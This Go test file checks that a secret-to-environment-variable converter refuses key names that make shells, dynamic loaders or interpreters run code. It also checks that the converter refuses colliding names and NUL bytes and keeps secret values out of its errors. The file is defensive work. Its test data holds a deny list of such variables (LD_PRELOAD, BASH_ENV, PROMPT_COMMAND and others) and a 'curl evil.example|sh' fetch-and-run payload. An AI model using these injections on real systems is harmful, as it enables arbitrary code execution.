package model

import (
	"errors"
	"slices"
	"strings"
	"testing"
)

// envSecret is the value every leaf of these tests holds; no error may
// quote it.
const envSecret = "s3cr3t-VALUE-do-not-print"

// envLeaves makes leaves with the given paths, all holding envSecret.
func envLeaves(paths ...string) []Field {
	leaves := make([]Field, len(paths))
	for i, p := range paths {
		leaves[i] = Field{Path: p, Value: StringValue(envSecret)}
	}
	return leaves
}

func TestEnvVarsNamesLeavesInDocumentOrder(t *testing.T) {
	tests := []struct {
		prefix string
		paths  []string
		want   []string
	}{
		{"", []string{"db.host", "db.port", "api-key", "9lives"}, []string{"DB_HOST", "DB_PORT", "API_KEY", "_9LIVES"}},
		{"APP_", []string{"db.host", "9lives", "path", "ld.preload", "home"}, []string{"APP_DB_HOST", "APP_9LIVES", "APP_PATH", "APP_LD_PRELOAD", "APP_HOME"}},
		{"", []string{"pathname", "home_dir", "ldap.url", "env_name", "malloc", "bash", "git_configured", "lua_initial", "shell.name"},
			[]string{"PATHNAME", "HOME_DIR", "LDAP_URL", "ENV_NAME", "MALLOC", "BASH", "GIT_CONFIGURED", "LUA_INITIAL", "SHELL_NAME"}},
		{"", nil, nil},
	}
	for _, tt := range tests {
		vars, err := EnvVars(envLeaves(tt.paths...), tt.prefix)
		if err != nil {
			t.Errorf("EnvVars(%q, %q): %v", tt.paths, tt.prefix, err)
			continue
		}
		var got []string
		for i, v := range vars {
			got = append(got, v.Name)
			if v.Path != tt.paths[i] || string(v.Value.Reveal()) != envSecret {
				t.Errorf("variable %d is %s from %q, want it from %q with its value", i, v.Name, v.Path, tt.paths[i])
			}
		}
		if !slices.Equal(got, tt.want) {
			t.Errorf("EnvVars(%q, %q) names %q, want %q", tt.paths, tt.prefix, got, tt.want)
		}
	}
}

func TestEnvVarsRefusesNamesThatRunCode(t *testing.T) {
	tests := []struct {
		prefix, path, name, why string
	}{
		{"", "prompt_command", "PROMPT_COMMAND", "a shell"},
		{"", "ps1", "PS1", "a shell"},
		{"", "PS4", "PS4", "a shell"},
		{"", "env", "ENV", "a shell"},
		{"", "bash_env", "BASH_ENV", "a shell"},
		{"", "BASH_FUNC_ls%%", "BASH_FUNC_LS", "a shell"},
		{"", "bash.xtracefd", "BASH_XTRACEFD", "a shell"},
		{"", "ifs", "IFS", "a shell"},
		{"", "path", "PATH", "a shell"},
		{"", "cdpath", "CDPATH", "a shell"},
		{"", "home", "HOME", "a shell"},
		{"", "shell", "SHELL", "a shell"},
		{"", "shellopts", "SHELLOPTS", "a shell"},
		{"", "bashopts", "BASHOPTS", "a shell"},
		{"", "globignore", "GLOBIGNORE", "a shell"},
		{"", "zdotdir", "ZDOTDIR", "a shell"},
		{"", "ld.preload", "LD_PRELOAD", "dynamic loader"},
		{"", "ld_library_path", "LD_LIBRARY_PATH", "dynamic loader"},
		{"", "LD-AUDIT", "LD_AUDIT", "dynamic loader"},
		{"", "dyld.insert_libraries", "DYLD_INSERT_LIBRARIES", "dynamic loader"},
		{"", "gconv_path", "GCONV_PATH", "dynamic loader"},
		{"", "malloc_check_", "MALLOC_CHECK", "dynamic loader"},
		{"", "glibc.tunables", "GLIBC_TUNABLES", "dynamic loader"},
		{"", "tmpdir", "TMPDIR", "dynamic loader"},
		{"", "perl5opt", "PERL5OPT", "interpreter"},
		{"", "perl5lib", "PERL5LIB", "interpreter"},
		{"", "pythonstartup", "PYTHONSTARTUP", "interpreter"},
		{"", "pythonpath", "PYTHONPATH", "interpreter"},
		{"", "pythonhome", "PYTHONHOME", "interpreter"},
		{"", "node_options", "NODE_OPTIONS", "interpreter"},
		{"", "rubyopt", "RUBYOPT", "interpreter"},
		{"", "java_tool_options", "JAVA_TOOL_OPTIONS", "interpreter"},
		{"", "lua_init_5_4", "LUA_INIT_5_4", "interpreter"},
		{"", "editor", "EDITOR", "as a command"},
		{"", "git.ssh_command", "GIT_SSH_COMMAND", "as a command"},
		{"", "git_config_count", "GIT_CONFIG_COUNT", "as a command"},
		{"LD_", "preload", "LD_PRELOAD", "dynamic loader"},
		{"ld_", "audit", "ld_AUDIT", "dynamic loader"},
		{"BASH_", "env", "BASH_ENV", "a shell"},
		{"P", "ath", "PATH", "a shell"},
	}
	for _, tt := range tests {
		leaves := envLeaves(tt.path)
		if tt.prefix == "" {
			leaves = envLeaves("user", tt.path) // refused after an accepted key
		}
		_, err := EnvVars(leaves, tt.prefix)
		var refused *EnvRefusedError
		if !errors.As(err, &refused) {
			t.Errorf("EnvVars(%q, prefix %q) = %v, want it refused", tt.path, tt.prefix, err)
			continue
		}
		if refused.Path != tt.path || refused.Name != tt.name {
			t.Errorf("refused %q as %s, want %q as %s", refused.Path, refused.Name, tt.path, tt.name)
		}
		msg := err.Error()
		for _, part := range []string{`"` + tt.path + `"`, tt.name, tt.why} {
			if !strings.Contains(msg, part) {
				t.Errorf("the refusal %q does not say %q", msg, part)
			}
		}
		if strings.Contains(msg, envSecret) {
			t.Errorf("the refusal %q quotes the value", msg)
		}
	}
}

func TestEnvVarsRefusesTwoKeysWithOneName(t *testing.T) {
	tests := []struct {
		paths         []string
		name          string
		first, second string
	}{
		{[]string{"db.host", "db_host"}, "DB_HOST", "db.host", "db_host"},
		{[]string{"user", "DB_HOST", "port", "db-host"}, "DB_HOST", "DB_HOST", "db-host"},
		{[]string{"a.b", "x", "_a_b_"}, "A_B", "a.b", "_a_b_"},
		{[]string{"clé", "cl\u00e8"}, "CL", "clé", "cl\u00e8"},
	}
	for _, tt := range tests {
		vars, err := EnvVars(envLeaves(tt.paths...), "")
		var clash *EnvCollisionError
		if !errors.As(err, &clash) {
			t.Errorf("EnvVars(%q) = %v, %v; want a collision", tt.paths, vars, err)
			continue
		}
		if clash.Name != tt.name || clash.First != tt.first || clash.Second != tt.second {
			t.Errorf("collision %+v, want %s from %q and %q", *clash, tt.name, tt.first, tt.second)
		}
		msg := err.Error()
		for _, part := range []string{`"` + tt.first + `"`, `"` + tt.second + `"`, tt.name} {
			if !strings.Contains(msg, part) {
				t.Errorf("the collision %q does not say %q", msg, part)
			}
		}
		if strings.Contains(msg, envSecret) {
			t.Errorf("the collision %q quotes the value", msg)
		}
	}
}

func TestEnvVarsRefusesABadPrefixAndANulByte(t *testing.T) {
	for _, prefix := range []string{"9X_", "APP-", "APP ", "ÉTÉ_", "A=B"} {
		if _, err := EnvVars(envLeaves("user"), prefix); err == nil || !strings.Contains(err.Error(), "prefix") {
			t.Errorf("EnvVars with prefix %q = %v, want the prefix refused", prefix, err)
		}
	}
	nul := []Field{{Path: "token", Value: StringValue(envSecret + "\x00tail")}}
	_, err := EnvVars(nul, "")
	if err == nil || !strings.Contains(err.Error(), `"token"`) || !strings.Contains(err.Error(), "NUL") {
		t.Fatalf("a value with a NUL byte gave %v, want it refused naming the key", err)
	}
	if strings.Contains(err.Error(), envSecret) {
		t.Fatalf("the NUL refusal %q quotes the value", err)
	}
}

func TestAsEnvRefusesInsteadOfWritingAPasteUnsafeLine(t *testing.T) {
	tests := []struct {
		name, secret string
		value        Value
		want         string
	}{
		{"prompt command key", "prod/app", StringValue(`{"user":"app","prompt_command":"curl evil.example|sh"}`), `key "prompt_command" would become PROMPT_COMMAND`},
		{"loader key", "prod/app", StringValue(`{"ld":{"preload":"/tmp/evil.so"}}`), `key "ld.preload" would become LD_PRELOAD`},
		{"colliding keys", "prod/db", StringValue(`{"db.host":"a.example","db_host":"b.example"}`), `keys "db.host" and "db_host" would both become DB_HOST`},
		{"plain value named path", "prod/path", StringValue("/tmp/evil:/usr/bin"), `key "path" would become PATH`},
		{"binary value named ld_preload", "prod/ld_preload", BinaryValue([]byte("evil")), `key "ld_preload" would become LD_PRELOAD`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, err := tt.value.AsEnv(tt.secret)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("AsEnv = %v, want an error saying %q", err, tt.want)
			}
			if !out.IsZero() {
				t.Fatalf("AsEnv returned %d bytes with its error", out.Len())
			}
			for _, leak := range []string{"evil", "example", "ZXZpbA"} {
				if strings.Contains(err.Error(), leak) {
					t.Fatalf("the error %q quotes the value", err)
				}
			}
		})
	}
}
